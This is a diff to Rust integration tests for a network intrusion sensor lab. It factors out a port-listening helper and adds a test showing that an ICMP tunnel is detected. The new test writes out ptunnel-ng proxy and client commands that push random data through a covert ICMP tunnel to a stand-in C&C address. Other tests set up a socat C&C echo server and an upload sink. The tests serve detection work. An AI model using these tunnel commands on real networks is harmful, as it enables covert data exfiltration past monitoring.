@@ -4,7 +4,7 @@
 
 use crate::support::lab::{
     self, assert_isolated_within, background, benign_traffic, detectors, http, incidents_of,
-    isolated, run, sensorctl_json, start_sshd, wait_for,
+    isolated, run, sensorctl_json, start_sshd, wait_for, wait_listening,
 };
 
 /// Isolate on any clear detection; block the C&C of a beacon.
@@ -248,13 +248,7 @@ fn bulk_upload_is_detected_and_large_downloads_are_not() {
         "sink",
         "socat -u TCP-LISTEN:9000,fork,reuseaddr OPEN:/dev/null",
     );
-    wait_for(10, || {
-        lab.host("web")
-            .netns
-            .exec("ss", &["-Hlnt", "sport", "=", ":9000"])
-            .map(|o| !o.trim().is_empty())
-            .unwrap_or(false)
-    });
+    wait_listening(&lab, "web", 9000, "the upload sink");
     browse(&lab, "office1");
     // 20 downloads of 4 MB (80 MB in) on office2, 80 MB out from office1.
     let downloads = background(
@@ -295,13 +289,7 @@ fn a_heartbeat_inside_one_kept_open_connection_is_a_beacon() {
         "echo",
         "socat TCP-LISTEN:7000,fork,reuseaddr EXEC:cat",
     );
-    wait_for(10, || {
-        lab.host("c2")
-            .netns
-            .exec("ss", &["-Hlnt", "sport", "=", ":7000"])
-            .map(|o| !o.trim().is_empty())
-            .unwrap_or(false)
-    });
+    wait_listening(&lab, "c2", 7000, "the C&C echo server");
     browse(&lab, "office1");
     let heartbeat = background(
         &lab,
@@ -320,6 +308,47 @@ fn a_heartbeat_inside_one_kept_open_connection_is_a_beacon() {
 }
 
 #[test]
+fn an_icmp_tunnel_is_found_when_its_echo_flow_ends() {
+    // ptunnel-ng: the proxy on the C&C host (kernel echo replies off, as
+    // its users set it up) forwards to a sink there; office1 pushes 300 KB
+    // through it.
+    let lab = lab::start("deticmp", "");
+    run(&lab, "c2", "sysctl -qw net.ipv4.icmp_echo_ignore_all=1");
+    let _sink = background(
+        &lab,
+        "c2",
+        "sink",
+        "socat -u TCP-LISTEN:9000,bind=127.0.0.1,fork,reuseaddr OPEN:/dev/null",
+    );
+    let _proxy = background(
+        &lab,
+        "c2",
+        "ptunnel-proxy",
+        "exec ptunnel-ng -r127.0.0.1 -R9000 -v 1",
+    );
+    let _client = background(
+        &lab,
+        "office1",
+        "ptunnel-client",
+        "exec ptunnel-ng -p 203.0.113.66 -l 2222 -r127.0.0.1 -R9000 -v 1",
+    );
+    wait_listening(&lab, "office1", 2222, "the ptunnel-ng client");
+    let sent = run(
+        &lab,
+        "office1",
+        "head -c 300000 /dev/urandom | timeout 60 socat -u - TCP:127.0.0.1:2222,shut-down \
+         && echo sent",
+    );
+    assert!(sent.contains("sent"), "the tunnel carried nothing: {sent}");
+    drop(_client);
+    // The echo flow ends a minute after its last request.
+    let seen = wait_for(90, || {
+        detectors(&lab, "10.10.0.11").contains(&"tunnel.icmp".into())
+    });
+    assert!(seen.is_some(), "{:?}", incidents_of(&lab, "10.10.0.11"));
+}
+
+#[test]
 fn mail_sent_out_by_a_workstation_alerts_and_the_mail_server_s_does_not() {
     // office2 is the site's mail server; office1 a workstation.
     let lab = lab::start(
@@ -332,13 +361,7 @@ fn mail_sent_out_by_a_workstation_alerts_and_the_mail_server_s_does_not() {
         "smtp",
         "exec python3 -W ignore -m smtpd -n -c DebuggingServer 0.0.0.0:25",
     );
-    wait_for(10, || {
-        lab.host("web")
-            .netns
-            .exec("ss", &["-Hlnt", "sport", "=", ":25"])
-            .map(|o| !o.trim().is_empty())
-            .unwrap_or(false)
-    });
+    wait_listening(&lab, "web", 25, "smtpd");
     for host in ["office1", "office2"] {
         browse(&lab, host);
         let sent = run(
